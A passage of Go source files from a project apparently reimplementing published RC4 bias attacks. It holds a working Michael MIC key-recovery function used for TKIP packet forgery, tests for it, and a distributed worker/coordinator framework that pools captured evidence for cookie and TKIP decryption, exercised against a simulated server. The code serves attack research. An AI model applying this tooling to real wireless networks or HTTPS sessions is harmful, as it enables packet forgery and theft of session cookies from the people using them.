		t.Fatalf("checks=%d (oracle saw %d), want 17", res.Checks, oracle.checks)
	}
}

func TestRunBudgetExhausted(t *testing.T) {
	dec := &fakeDecoder{revealAt: 1 << 30, trueRank: 1, truth: []byte("never")}
	oracle := &fakeOracle{truth: []byte("never")}
	res, err := online.Run(online.Config{
		Decoder:       dec,
		Oracle:        oracle,
		Cadence:       online.Cadence{First: 1000},
		MaxCandidates: 4,
		Budget:        3000,
		CaptureTo:     func(target uint64) error { dec.observed = target; return nil },
	})
	if !errors.Is(err, online.ErrBudgetExhausted) {
		t.Fatalf("err = %v, want ErrBudgetExhausted", err)
	}
	// Decode points: 1000, 2000, then the budget-clamped 3000.
	if res.Rounds != 3 || dec.observed != 3000 {
		t.Fatalf("rounds=%d observed=%d, want 3 rounds ending at 3000", res.Rounds, dec.observed)
	}
}

// granuleFeed advances evidence in fixed granules, overshooting targets the
// way a fleet coordinator merging whole worker lanes does.
type granuleFeed struct {
	dec     *fakeDecoder
	granule uint64
}

func (f *granuleFeed) AdvanceTo(target uint64) error {
	for f.dec.observed < target {
		f.dec.observed += f.granule
	}
	return nil
}

// TestRunFeedOvershoot pins the pluggable-feed contract: a feed that lands
// past the cadence point decodes at the actual observed count, skips cadence
// points the overshoot already covered, and finishes once the budget is
// covered even if the final granule lands beyond it.
func TestRunFeedOvershoot(t *testing.T) {
	truth := []byte("never-found")
	dec := &fakeDecoder{revealAt: 1 << 30, trueRank: 1, truth: truth}
	res, err := online.Run(online.Config{
		Decoder:       dec,
		Oracle:        &fakeOracle{truth: truth},
		Cadence:       online.Cadence{First: 1000},
		MaxCandidates: 4,
		Budget:        3000,
		Feed:          &granuleFeed{dec: dec, granule: 700},
	})
	if !errors.Is(err, online.ErrBudgetExhausted) {
		t.Fatalf("err = %v, want ErrBudgetExhausted", err)
	}
	// Granules of 700: decode at 1400 (target 1000), 2100 (target 2000 —
	// the overshoot already skipped it past 1400's next point), then 3500
	// (budget-clamped target 3000), which covers the budget and ends the run.
	if res.Rounds != 3 || res.Observed != 3500 || dec.decodes != 3 {
		t.Fatalf("rounds=%d observed=%d decodes=%d, want 3/3500/3", res.Rounds, res.Observed, dec.decodes)
	}
}

func TestRunCaptureErrorPropagates(t *testing.T) {
	dec := &fakeDecoder{truth: []byte("x")}
	boom := errors.New("boom")
	_, err := online.Run(online.Config{
		Decoder:   dec,
		Oracle:    &fakeOracle{truth: []byte("x")},
		Budget:    1 << 21,
		CaptureTo: func(uint64) error { return boom },
	})
	if !errors.Is(err, boom) {
		t.Fatalf("err = %v, want boom", err)
	}
}

func TestRunValidation(t *testing.T) {
	if _, err := online.Run(online.Config{}); err == nil {
		t.Fatal("empty config accepted")
	}
	dec := &fakeDecoder{truth: []byte("x")}
	if _, err := online.Run(online.Config{
		Decoder:   dec,
		Oracle:    &fakeOracle{},
		CaptureTo: func(uint64) error { return nil },
	}); err == nil {
		t.Fatal("zero budget accepted")
	}
}
