// Package michael implements the Michael message integrity code used by
// WPA-TKIP, plus the key-recovery inversion that makes the paper's TKIP
// attack (§5) devastating: Michael is not a one-way function, so given a
// plaintext MSDU and its MIC value, the 64-bit MIC key can be recovered in
// microseconds (Tews & Beck). Once the attacker decrypts a single full
// packet — which is what the RC4 bias attack yields — the MIC key falls out
// and arbitrary packets can be forged.
//
// Michael operates on two 32-bit little-endian state words keyed by the
// 64-bit MIC key. Each 32-bit message word is XORed into the left half and
// followed by a four-round unkeyed block function built from rotations,
// a byte swap and additions — all invertible, which is exactly the weakness
// the inversion exploits.
package michael

import "encoding/binary"

// KeySize is the Michael key size in bytes.
const KeySize = 8

// Size is the MIC length in bytes.
const Size = 8

// rol and ror are 32-bit rotations.
func rol(v uint32, n uint) uint32 { return v<<n | v>>(32-n) }
func ror(v uint32, n uint) uint32 { return v>>n | v<<(32-n) }

// xswap swaps the bytes within each 16-bit half of v.
func xswap(v uint32) uint32 {
	return (v&0xff00ff00)>>8 | (v&0x00ff00ff)<<8
}

// block is the Michael block function (one message word absorbed).
func block(l, r uint32) (uint32, uint32) {
	r ^= rol(l, 17)
	l += r
	r ^= xswap(l)
	l += r
	r ^= rol(l, 3)
	l += r
	r ^= ror(l, 2)
	l += r
	return l, r
}

// unblock inverts block.
func unblock(l, r uint32) (uint32, uint32) {
	l -= r
	r ^= ror(l, 2)
	l -= r
	r ^= rol(l, 3)
	l -= r
	r ^= xswap(l)
	l -= r
	r ^= rol(l, 17)
	return l, r
}

// pad appends the Michael padding: a 0x5a byte followed by the minimum
// number of zero bytes (at least 4) so the total length is a multiple of 4.
func pad(msg []byte) []byte {
	padded := make([]byte, 0, len(msg)+12)
	padded = append(padded, msg...)
	padded = append(padded, 0x5a, 0, 0, 0, 0)
	for len(padded)%4 != 0 {
		padded = append(padded, 0)
	}
	return padded
}

// Sum computes the 8-byte Michael MIC of msg under the 8-byte key.
// In TKIP the message is the MIC header (DA, SA, priority) followed by the
// MSDU payload; use Header to build that prefix.
func Sum(key [KeySize]byte, msg []byte) [Size]byte {
	l := binary.LittleEndian.Uint32(key[0:4])
	r := binary.LittleEndian.Uint32(key[4:8])
	padded := pad(msg)
	for off := 0; off < len(padded); off += 4 {
		l ^= binary.LittleEndian.Uint32(padded[off:])
		l, r = block(l, r)
	}
	var mic [Size]byte
	binary.LittleEndian.PutUint32(mic[0:4], l)
	binary.LittleEndian.PutUint32(mic[4:8], r)
	return mic
}

// RecoverKey inverts Michael: given a message and its MIC, it returns the
// key that produced it. This is the §5.3 step "from the decrypted packet we
// derive the TKIP MIC key". The recovery is exact and deterministic.
func RecoverKey(msg []byte, mic [Size]byte) [KeySize]byte {
	l := binary.LittleEndian.Uint32(mic[0:4])
	r := binary.LittleEndian.Uint32(mic[4:8])
	padded := pad(msg)
	for off := len(padded) - 4; off >= 0; off -= 4 {
		l, r = unblock(l, r)
		l ^= binary.LittleEndian.Uint32(padded[off:])
	}
	var key [KeySize]byte
	binary.LittleEndian.PutUint32(key[0:4], l)
	binary.LittleEndian.PutUint32(key[4:8], r)
	return key
}

// Header builds the 16-byte Michael MIC header: destination address, source
// address, priority and three reserved zero bytes, as prepended to the MSDU
// before MIC computation in 802.11 [19, §11.4.2.3].
func Header(da, sa [6]byte, priority byte) [16]byte {
	var h [16]byte
	copy(h[0:6], da[:])
	copy(h[6:12], sa[:])
	h[12] = priority
	return h
}
