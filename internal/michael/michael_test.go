package michael

import (
	"bytes"
	"testing"
	"testing/quick"
)

// Test vectors from IEEE 802.11-2012 Annex M.6.1 (Michael test vectors).
func TestKnownVectors(t *testing.T) {
	cases := []struct {
		key []byte
		msg string
		mic []byte
	}{
		{
			key: []byte{0, 0, 0, 0, 0, 0, 0, 0},
			msg: "",
			mic: []byte{0x82, 0x92, 0x5c, 0x1c, 0xa1, 0xd1, 0x30, 0xb8},
		},
		{
			key: []byte{0x82, 0x92, 0x5c, 0x1c, 0xa1, 0xd1, 0x30, 0xb8},
			msg: "M",
			mic: []byte{0x43, 0x47, 0x21, 0xca, 0x40, 0x63, 0x9b, 0x3f},
		},
		{
			key: []byte{0x43, 0x47, 0x21, 0xca, 0x40, 0x63, 0x9b, 0x3f},
			msg: "Mi",
			mic: []byte{0xe8, 0xf9, 0xbe, 0xca, 0xe9, 0x7e, 0x5d, 0x29},
		},
		{
			key: []byte{0xe8, 0xf9, 0xbe, 0xca, 0xe9, 0x7e, 0x5d, 0x29},
			msg: "Mic",
			mic: []byte{0x90, 0x03, 0x8f, 0xc6, 0xcf, 0x13, 0xc1, 0xdb},
		},
		{
			key: []byte{0x90, 0x03, 0x8f, 0xc6, 0xcf, 0x13, 0xc1, 0xdb},
			msg: "Mich",
			mic: []byte{0xd5, 0x5e, 0x10, 0x05, 0x10, 0x12, 0x89, 0x86},
		},
		{
			key: []byte{0xd5, 0x5e, 0x10, 0x05, 0x10, 0x12, 0x89, 0x86},
			msg: "Michael",
			mic: []byte{0x0a, 0x94, 0x2b, 0x12, 0x4e, 0xca, 0xa5, 0x46},
		},
	}
	for i, c := range cases {
		var key [KeySize]byte
		copy(key[:], c.key)
		got := Sum(key, []byte(c.msg))
		if !bytes.Equal(got[:], c.mic) {
			t.Errorf("vector %d (%q): got % x want % x", i, c.msg, got, c.mic)
		}
	}
}

func TestBlockUnblockInverse(t *testing.T) {
	f := func(l, r uint32) bool {
		bl, br := block(l, r)
		ul, ur := unblock(bl, br)
		return ul == l && ur == r
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestRecoverKey(t *testing.T) {
	// The core of the §5.3 attack: any (message, MIC) pair reveals the key.
	f := func(key [KeySize]byte, msg []byte) bool {
		mic := Sum(key, msg)
		return RecoverKey(msg, mic) == key
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestRecoverKeyRealisticPacket(t *testing.T) {
	key := [KeySize]byte{0xde, 0xad, 0xbe, 0xef, 0x01, 0x02, 0x03, 0x04}
	da := [6]byte{0x00, 0x11, 0x22, 0x33, 0x44, 0x55}
	sa := [6]byte{0x66, 0x77, 0x88, 0x99, 0xaa, 0xbb}
	hdr := Header(da, sa, 0)
	msdu := append(hdr[:], []byte("GET / HTTP/1.1\r\nHost: example\r\n\r\n")...)
	mic := Sum(key, msdu)
	if got := RecoverKey(msdu, mic); got != key {
		t.Fatalf("recovered % x, want % x", got, key)
	}
}

func TestPadding(t *testing.T) {
	for n := 0; n <= 9; n++ {
		p := pad(make([]byte, n))
		if len(p)%4 != 0 {
			t.Errorf("len %d: padded length %d not multiple of 4", n, len(p))
		}
		if p[n] != 0x5a {
			t.Errorf("len %d: padding must start with 0x5a", n)
		}
		if len(p) < n+4 {
			t.Errorf("len %d: need at least 4 padding bytes, got %d", n, len(p)-n)
		}
		for _, b := range p[n+1:] {
			if b != 0 {
				t.Errorf("len %d: nonzero tail padding", n)
			}
		}
	}
}

func TestHeader(t *testing.T) {
	da := [6]byte{1, 2, 3, 4, 5, 6}
	sa := [6]byte{7, 8, 9, 10, 11, 12}
	h := Header(da, sa, 5)
	if !bytes.Equal(h[0:6], da[:]) || !bytes.Equal(h[6:12], sa[:]) {
		t.Error("addresses misplaced")
	}
	if h[12] != 5 || h[13] != 0 || h[14] != 0 || h[15] != 0 {
		t.Error("priority/reserved bytes wrong")
	}
}

func TestMICChangesWithMessage(t *testing.T) {
	key := [KeySize]byte{1, 2, 3, 4, 5, 6, 7, 8}
	a := Sum(key, []byte("message one"))
	b := Sum(key, []byte("message two"))
	if a == b {
		t.Error("different messages produced identical MICs")
	}
}

func BenchmarkSum1500(b *testing.B) {
	var key [KeySize]byte
	msg := make([]byte, 1500)
	b.SetBytes(1500)
	for n := 0; n < b.N; n++ {
		Sum(key, msg)
	}
}

func BenchmarkRecoverKey(b *testing.B) {
	var key [KeySize]byte
	msg := make([]byte, 60)
	mic := Sum(key, msg)
	for n := 0; n < b.N; n++ {
		RecoverKey(msg, mic)
	}
}
