package fleet

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"time"

	"rc4break/internal/obs"
	"rc4break/internal/snapshot"
)

// Worker is one capture node: it joins a coordinator, leases lanes, runs
// the attack's collect loop for each, and streams the lane snapshots back.
// Workers are stateless between lanes — everything durable lives in the
// coordinator's acks — so a worker can be killed at any instant and
// rejoined with no local recovery: its unacked lane simply expires and is
// re-captured (byte-identically, lanes being pure functions of the job) by
// whoever leases it next.
type Worker struct {
	// Addr is the coordinator's TCP address.
	Addr string
	// ID names the worker in leases and logs; empty means hostname-pid.
	ID string
	// Attack is the attack kind this worker can collect ("cookie" or
	// "tkip"); a job of any other kind is refused.
	Attack string
	// Fingerprint is the locally constructed attack configuration
	// fingerprint; the coordinator turns away workers whose fingerprint
	// differs from the job's.
	Fingerprint [16]byte
	// Collect captures one leased lane and returns the attack snapshot
	// envelope bytes (WriteSnapshot output) for upload. An error aborts the
	// worker; the lane lease then expires server-side and is re-captured
	// elsewhere.
	Collect func(job JobSpec, lease Lease) ([]byte, error)
	Logf    func(format string, args ...interface{})
	// Dial overrides the transport (tests); nil means net.Dial("tcp", Addr).
	Dial func() (net.Conn, error)
	// MaxWait caps how long the worker sleeps on a Wait reply; 0 means the
	// coordinator's suggestion is honored as-is.
	MaxWait time.Duration
	// Tracer, when non-nil, records one fleet.collect span per leased lane,
	// parented under the coordinator's lane span via the lease's trace
	// fields, and piggybacks the drained journal on each evidence upload —
	// so the coordinator's journal renders the whole fleet as one trace.
	Tracer *obs.Journal
}

// WorkerStats summarizes one worker session.
type WorkerStats struct {
	// Lanes and Records count acked lane uploads.
	Lanes, Records uint64
	// Rejected counts uploads the coordinator refused (duplicates after a
	// lease expiry race — the work is covered, just not by this worker).
	Rejected uint64
	// StopReason is the coordinator's reason when it declared the run over.
	StopReason string
}

// Run drives the worker session until the coordinator declares the run
// over (returning the stop reason in the stats), the context is cancelled,
// or an error occurs.
func (w *Worker) Run(ctx context.Context) (WorkerStats, error) {
	var stats WorkerStats
	if w.Collect == nil {
		return stats, errors.New("fleet: worker needs a Collect loop")
	}
	if w.ID == "" {
		host, _ := os.Hostname()
		w.ID = fmt.Sprintf("%s-%d", host, os.Getpid())
	}
	if ctx == nil {
		ctx = context.Background()
	}
	dial := w.Dial
	if dial == nil {
		dial = func() (net.Conn, error) { return net.Dial("tcp", w.Addr) }
	}
	conn, err := dial()
	if err != nil {
		return stats, fmt.Errorf("fleet: worker %s: %w", w.ID, err)
	}
	defer conn.Close()

	if err := writeMsg(conn, kindHello, Hello{Worker: w.ID, Fingerprint: w.Fingerprint}); err != nil {
		return stats, err
	}
	var welcome Welcome
	if err := readExpect(conn, kindWelcome, &welcome); err != nil {
		var st *StoppedError
		if errors.As(err, &st) {
			stats.StopReason = st.Reason
			return stats, err // turned away at the door: surface the reason
		}
		return stats, err
	}
	job := welcome.Job
	if job.Attack != w.Attack {
		return stats, fmt.Errorf("fleet: job runs the %q attack, this worker collects %q", job.Attack, w.Attack)
	}
	w.logf("joined %s: %s/%s, %d lanes of %d observations", w.Addr, job.Attack, job.Mode, job.Lanes(), job.LaneRecords)

	for {
		if err := ctx.Err(); err != nil {
			return stats, err
		}
		if err := writeMsg(conn, kindLeaseRequest, LeaseRequest{Worker: w.ID}); err != nil {
			return stats, err
		}
		kind, payload, err := readMsg(conn)
		if err != nil {
			return stats, err
		}
		switch kind {
		case kindStop:
			var st Stop
			if err := snapshot.DecodeGob(payload, &st); err != nil {
				return stats, err
			}
			stats.StopReason = st.Reason
			w.logf("stopping: %s", st.Reason)
			return stats, nil
		case kindWait:
			var wt Wait
			if err := snapshot.DecodeGob(payload, &wt); err != nil {
				return stats, err
			}
			d := wt.After
			if w.MaxWait > 0 && d > w.MaxWait {
				d = w.MaxWait
			}
			if d <= 0 {
				d = 50 * time.Millisecond
			}
			select {
			case <-ctx.Done():
				return stats, ctx.Err()
			case <-time.After(d):
			}
		case kindLease:
			var lease Lease
			if err := snapshot.DecodeGob(payload, &lease); err != nil {
				return stats, err
			}
			w.logf("leased lane %d (%d observations at offset %d)", lease.Lane, lease.Records, lease.Start)
			collect := w.Tracer.Start(
				obs.SpanContext{Trace: obs.TraceID(lease.Trace), Span: obs.SpanID(lease.Span)},
				"fleet.collect", obs.U64("lane", lease.Lane), obs.U64("records", lease.Records))
			collect.SetTrack(int64(lease.Lane))
			snap, err := w.Collect(job, lease)
			collect.End()
			if err != nil {
				// Give the lane back immediately instead of holding it until
				// the TTL expires. Best-effort: a worker that dies outright
				// never gets here, and the TTL is the backstop.
				if werr := writeMsg(conn, kindRelease, Release{Worker: w.ID, Lane: lease.Lane}); werr == nil {
					_, _, _ = readMsg(conn)
				}
				return stats, fmt.Errorf("fleet: collecting lane %d: %w", lease.Lane, err)
			}
			if err := writeMsg(conn, kindEvidence, Evidence{
				Worker:   w.ID,
				Lane:     lease.Lane,
				Stream:   lease.Stream,
				Records:  lease.Records,
				Snapshot: snap,
				// Drain piggybacks every finished span (this lane's collect,
				// plus anything the attack layers recorded) on the upload the
				// worker already makes — no extra RPC.
				Spans: w.Tracer.Drain(),
			}); err != nil {
				return stats, err
			}
			var ack Ack
			if err := readExpect(conn, kindAck, &ack); err != nil {
				return stats, err
			}
			if ack.OK {
				stats.Lanes++
				stats.Records += lease.Records
				w.logf("lane %d acked (pool at %d observations)", lease.Lane, ack.Merged)
			} else {
				stats.Rejected++
				w.logf("lane %d rejected: %s", lease.Lane, ack.Err)
			}
			if ack.Stop {
				stats.StopReason = "coordinator finished during upload"
				return stats, nil
			}
		default:
			return stats, fmt.Errorf("fleet: protocol error: unexpected %q reply to a lease request", kind)
		}
	}
}

func (w *Worker) logf(format string, args ...interface{}) {
	if w.Logf != nil {
		w.Logf("worker %s: "+format, append([]interface{}{w.ID}, args...)...)
	}
}
