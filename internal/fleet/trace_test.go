package fleet_test

import (
	"bytes"
	"context"
	"errors"
	"net"
	"sync"
	"testing"
	"time"

	"rc4break/internal/cookieattack"
	"rc4break/internal/fleet"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/obs"
	"rc4break/internal/online"
)

// TestFleetOneTraceAcrossProcesses pins the cross-process propagation
// property: a traced coordinator plus traced workers produce, in the
// coordinator's journal alone, a single trace whose spans carry both the
// coordinator's and the workers' proc labels — with worker collect spans
// parented under the coordinator's lane spans — and the Chrome export of
// that journal renders them as separate process groups. It also checks the
// observe hooks that feed fleetd's histograms fire for every phase.
func TestFleetOneTraceAcrossProcesses(t *testing.T) {
	const secret = "C00kie8+"
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		t.Fatal(err)
	}
	cfg := cookieattack.Config{
		CookieLen:   len(secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	}
	pool := newCookieAttack(t, cfg)
	job := fleet.JobSpec{
		Attack:      "cookie",
		Mode:        "model",
		Seed:        5,
		Budget:      4 << 10,
		LaneRecords: 1 << 10,
		Fingerprint: pool.Fingerprint(),
	}

	journal := obs.NewJournal("coordinator", 1024)
	var mu sync.Mutex
	hookCounts := map[string]int{}
	hook := func(name string) func(time.Duration) {
		return func(d time.Duration) {
			if d < 0 {
				t.Errorf("%s observed negative duration %v", name, d)
			}
			mu.Lock()
			hookCounts[name]++
			mu.Unlock()
		}
	}
	coord, err := fleet.NewCoordinator(fleet.Config{
		Job:                  job,
		Pool:                 &fleet.CookiePool{Attack: pool},
		Oracle:               &netsim.CookieServer{Secret: []byte(secret)},
		Cadence:              online.Cadence{First: 2 << 10},
		MaxCandidates:        8,
		LeaseTTL:             time.Minute,
		Tracer:               journal,
		ObserveLaneRoundtrip: hook("roundtrip"),
		ObserveIngest:        hook("ingest"),
		ObserveDecode:        hook("decode"),
	})
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	coord.Serve(l)

	var wg sync.WaitGroup
	for _, id := range []string{"worker-a", "worker-b"} {
		id := id
		wg.Add(1)
		go func() {
			defer wg.Done()
			w := &fleet.Worker{
				Addr:        l.Addr().String(),
				ID:          id,
				Attack:      "cookie",
				Fingerprint: job.Fingerprint,
				Collect:     cookieCollect(cfg, secret),
				MaxWait:     20 * time.Millisecond,
				Tracer:      obs.NewJournal(id, 256),
			}
			if _, err := w.Run(context.Background()); err != nil {
				t.Errorf("worker %s: %v", id, err)
			}
		}()
	}
	// A toy budget cannot rank the real cookie into an 8-deep list; the run
	// ends by budget exhaustion, which exercises every span path.
	if _, err := coord.Run(context.Background()); !errors.Is(err, online.ErrBudgetExhausted) {
		t.Fatalf("coordinator run: %v", err)
	}
	wg.Wait()
	coord.Close()

	recs := journal.Snapshot()
	var traceID uint64
	byName := map[string][]obs.Record{}
	procs := map[string]bool{}
	spanByID := map[uint64]obs.Record{}
	for _, r := range recs {
		byName[r.Name] = append(byName[r.Name], r)
		procs[r.Proc] = true
		spanByID[r.Span] = r
		if traceID == 0 {
			traceID = r.Trace
		}
		if r.Trace != traceID {
			t.Fatalf("span %s (proc %s) under trace %x, want the single trace %x", r.Name, r.Proc, r.Trace, traceID)
		}
	}
	for _, proc := range []string{"coordinator", "worker-a", "worker-b"} {
		if !procs[proc] {
			t.Fatalf("journal has procs %v, missing %q", procs, proc)
		}
	}
	if len(byName["fleet.lane"]) != int(job.Lanes()) {
		t.Fatalf("%d fleet.lane spans, want %d", len(byName["fleet.lane"]), job.Lanes())
	}
	if len(byName["fleet.collect"]) != int(job.Lanes()) {
		t.Fatalf("%d fleet.collect spans, want %d", len(byName["fleet.collect"]), job.Lanes())
	}
	for _, name := range []string{"fleet.run", "fleet.join", "fleet.ingest", "fleet.merge", "online.run", "online.decode", "online.walk"} {
		if len(byName[name]) == 0 {
			t.Fatalf("no %s spans in journal (have %v)", name, byName)
		}
	}
	// Every worker collect span is parented under a coordinator lane span —
	// the lease's trace fields crossed the process boundary.
	for _, cs := range byName["fleet.collect"] {
		parent, ok := spanByID[cs.Parent]
		if !ok || parent.Name != "fleet.lane" {
			t.Fatalf("fleet.collect parent %x is %q, want a fleet.lane span", cs.Parent, parent.Name)
		}
	}

	// The Chrome export renders coordinator and workers as distinct
	// process groups in one loadable document.
	var buf bytes.Buffer
	if err := obs.WriteChrome(&buf, recs); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"coordinator"`, `"worker-a"`, `"worker-b"`, `"traceEvents"`} {
		if !bytes.Contains(buf.Bytes(), []byte(want)) {
			t.Fatalf("chrome export missing %s", want)
		}
	}

	mu.Lock()
	defer mu.Unlock()
	if hookCounts["roundtrip"] != int(job.Lanes()) || hookCounts["ingest"] != int(job.Lanes()) || hookCounts["decode"] == 0 {
		t.Fatalf("observe hooks fired %v, want %d roundtrips, %d ingests, >0 decodes", hookCounts, job.Lanes(), job.Lanes())
	}
}
