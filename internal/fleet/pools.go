package fleet

import (
	"bytes"
	"errors"
	"fmt"

	"rc4break/internal/cookieattack"
	"rc4break/internal/recovery"
	"rc4break/internal/snapshot"
	"rc4break/internal/tkip"
)

// CookiePool adapts a cookieattack evidence pool to the coordinator. Lane
// uploads are cookieattack snapshots and must carry the pool's request
// layout fingerprint — the same compatibility contract as the offline
// -merge path.
type CookiePool struct {
	Attack *cookieattack.Attack
}

// Observed implements Pool.
func (p *CookiePool) Observed() uint64 { return p.Attack.Observed() }

// Decode implements Pool.
func (p *CookiePool) Decode(max int) (recovery.CandidateSource, error) { return p.Attack.Decode(max) }

// Validate implements Pool: decode the lane snapshot and apply the -merge
// compatibility checks plus the lane identity the lease pinned.
func (p *CookiePool) Validate(snap []byte, want snapshot.StreamInfo, records uint64) (Shard, error) {
	shard, err := cookieattack.ReadSnapshot(bytes.NewReader(snap))
	if err != nil {
		return nil, err
	}
	if shard.Fingerprint() != p.Attack.Fingerprint() {
		return nil, errors.New("captured against a different request layout (fingerprint mismatch)")
	}
	if shard.Stream != want {
		return nil, fmt.Errorf("snapshot stream %s/seed %d/lane %d does not match the lease",
			shard.Stream.Mode, shard.Stream.Seed, shard.Stream.Lane)
	}
	if shard.Records != records {
		return nil, fmt.Errorf("snapshot holds %d records, lease specified %d", shard.Records, records)
	}
	return shard, nil
}

// Merge implements Pool.
func (p *CookiePool) Merge(s Shard) error { return p.Attack.Merge(s.(*cookieattack.Attack)) }

// WriteSnapshotFile implements Pool.
func (p *CookiePool) WriteSnapshotFile(path string) error { return p.Attack.WriteSnapshotFile(path) }

// TKIPPool adapts a tkip capture pool to the coordinator. Lane uploads are
// tkip attack snapshots and must have been captured against the pool's
// trained model (fingerprint-checked on decode).
type TKIPPool struct {
	Attack *tkip.Attack
	Model  *tkip.PerTSCModel
}

// Observed implements Pool.
func (p *TKIPPool) Observed() uint64 { return p.Attack.Observed() }

// Decode implements Pool.
func (p *TKIPPool) Decode(max int) (recovery.CandidateSource, error) { return p.Attack.Decode(max) }

// Validate implements Pool.
func (p *TKIPPool) Validate(snap []byte, want snapshot.StreamInfo, records uint64) (Shard, error) {
	shard, err := tkip.ReadAttackSnapshot(bytes.NewReader(snap), p.Model)
	if err != nil {
		return nil, err
	}
	if shard.Stream != want {
		return nil, fmt.Errorf("snapshot stream %s/seed %d/lane %d does not match the lease",
			shard.Stream.Mode, shard.Stream.Seed, shard.Stream.Lane)
	}
	if shard.Frames != records {
		return nil, fmt.Errorf("snapshot holds %d frames, lease specified %d", shard.Frames, records)
	}
	return shard, nil
}

// Merge implements Pool.
func (p *TKIPPool) Merge(s Shard) error { return p.Attack.Merge(s.(*tkip.Attack)) }

// WriteSnapshotFile implements Pool.
func (p *TKIPPool) WriteSnapshotFile(path string) error { return p.Attack.WriteSnapshotFile(path) }
