package fleet

import (
	"context"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"rc4break/internal/dataset"
	"rc4break/internal/obs"
	"rc4break/internal/online"
	"rc4break/internal/recovery"
	"rc4break/internal/snapshot"
)

// Shard is a validated, decoded lane upload awaiting its merge turn — the
// opaque value a Pool's Validate hands to its Merge.
type Shard any

// Pool is the coordinator-side evidence pool: one per attack, adapting the
// attack's snapshot/merge/decode machinery to the fleet. CookiePool and
// TKIPPool implement it. Observed, Decode, Merge and WriteSnapshotFile are
// called with the coordinator's lock held, so implementations need no
// synchronization of their own; Validate runs WITHOUT the lock (it decodes
// multi-megabyte uploads and must not stall other RPCs) and therefore may
// only read immutable pool configuration — fingerprints, the trained
// model — never mutable evidence state.
type Pool interface {
	// Observed reports the observations merged into the pool so far.
	Observed() uint64
	// Decode ranks candidates from the merged evidence (online.Decoder's
	// decode half).
	Decode(max int) (recovery.CandidateSource, error)
	// Validate decodes one lane snapshot (the attack's own envelope bytes)
	// and checks it against the pool's configuration and the lane's
	// expected identity — the same fingerprint/stream/count checks the
	// offline -merge path applies, so a bad upload is rejected at the RPC
	// layer instead of poisoning the pool.
	Validate(snap []byte, want snapshot.StreamInfo, records uint64) (Shard, error)
	// Merge folds a validated shard into the pool.
	Merge(s Shard) error
	// WriteSnapshotFile checkpoints the merged pool (the coordinator's
	// -checkpoint file, readable by the offline -resume/-merge tooling).
	WriteSnapshotFile(path string) error
}

// Config wires one coordinator.
type Config struct {
	Job    JobSpec
	Pool   Pool
	Oracle online.Oracle
	// Cadence and MaxCandidates parameterize the decode loop exactly as in
	// a single-process online run.
	Cadence       online.Cadence
	MaxCandidates int
	// LeaseTTL bounds how long a silent worker holds a lane before it is
	// re-leased; 0 means DefaultLeaseTTL.
	LeaseTTL time.Duration
	// Checkpoint, when set, is the pool snapshot path written after every
	// unsuccessful decode round.
	Checkpoint string
	Logf       func(format string, args ...interface{})
	// Now is the clock used for lease bookkeeping (a test hook); nil means
	// time.Now.
	Now func() time.Time
	// Tracer, when non-nil, records the fleet span tree (fleet.run, per-lane
	// lease→upload spans, ingest and merge spans, plus the online runtime's
	// per-round spans) and folds in the span records workers piggyback on
	// their uploads. A nil Tracer costs one nil check per site; outputs are
	// bitwise identical either way.
	Tracer *obs.Journal
	// TraceParent parents the fleet.run span (e.g. a service job's span).
	TraceParent obs.SpanContext
	// ObserveLaneRoundtrip, ObserveIngest and ObserveDecode, when non-nil,
	// receive wall-clock durations for the daemon's latency histograms:
	// lease grant to accepted upload per lane, evidence validate+stage per
	// upload, and each decode round. Durations come from the injected Now
	// clock, so the hooks work with or without a Tracer.
	ObserveLaneRoundtrip func(d time.Duration)
	ObserveIngest        func(d time.Duration)
	ObserveDecode        func(d time.Duration)
}

// DefaultLeaseTTL is the lane lease lifetime when Config.LeaseTTL is zero.
const DefaultLeaseTTL = 2 * time.Minute

// Coordinator owns the merged evidence pool and the decode loop, leases
// capture lanes to workers, and stages out-of-order lane uploads until they
// can merge in lane order. Between decode rounds — and during them — the
// pool only advances up to the current cadence target, so every decode sees
// exactly the evidence a single-process run would: the shortest lane prefix
// covering the decode point.
type Coordinator struct {
	cfg Config
	job JobSpec

	ledger *dataset.LaneLedger

	mu         sync.Mutex
	cond       *sync.Cond
	staged     map[uint64]stagedLane
	nextMerge  uint64 // lowest lane not yet merged
	mergeLimit uint64 // merge only while Observed() < mergeLimit
	stopped    bool
	stopReason string
	failure    error

	// runSpan is the root of the coordinator's trace tree (nil untraced);
	// laneSpans tracks each outstanding lease's span and grant time from
	// grant to accepted upload or expiry, keyed by lane.
	runSpan   *obs.Span
	laneSpans map[uint64]laneGrant

	listener net.Listener
	conns    map[net.Conn]struct{}
	wg       sync.WaitGroup

	// Uploads and Rejected count evidence RPCs (read via Stats).
	uploads  uint64
	rejected uint64
}

type stagedLane struct {
	shard   Shard
	records uint64
}

// laneGrant is the per-lease trace state: the span opened at grant and the
// grant instant (from the injected clock) for the roundtrip histogram.
type laneGrant struct {
	span    *obs.Span
	granted time.Time
}

// NewCoordinator validates the configuration and prepares the lane ledger.
// A pool that already holds evidence (a -resume'd coordinator checkpoint)
// must sit on a lane boundary; its lanes are marked done so only the
// remainder is leased out.
func NewCoordinator(cfg Config) (*Coordinator, error) {
	if cfg.Pool == nil || cfg.Oracle == nil {
		return nil, errors.New("fleet: Pool and Oracle are required")
	}
	if cfg.Job.Budget == 0 || cfg.Job.LaneRecords == 0 {
		return nil, errors.New("fleet: job needs a nonzero budget and lane size")
	}
	// An unknown mode would not fail here — it would ship to every worker
	// in Welcome and deterministically kill each one's collect loop,
	// leaving all lanes leased and the coordinator waiting forever.
	if cfg.Job.Mode != "model" && cfg.Job.Mode != "exact" {
		return nil, fmt.Errorf("fleet: unknown collection mode %q (want model or exact)", cfg.Job.Mode)
	}
	if cfg.LeaseTTL == 0 {
		cfg.LeaseTTL = DefaultLeaseTTL
	}
	if cfg.Now == nil {
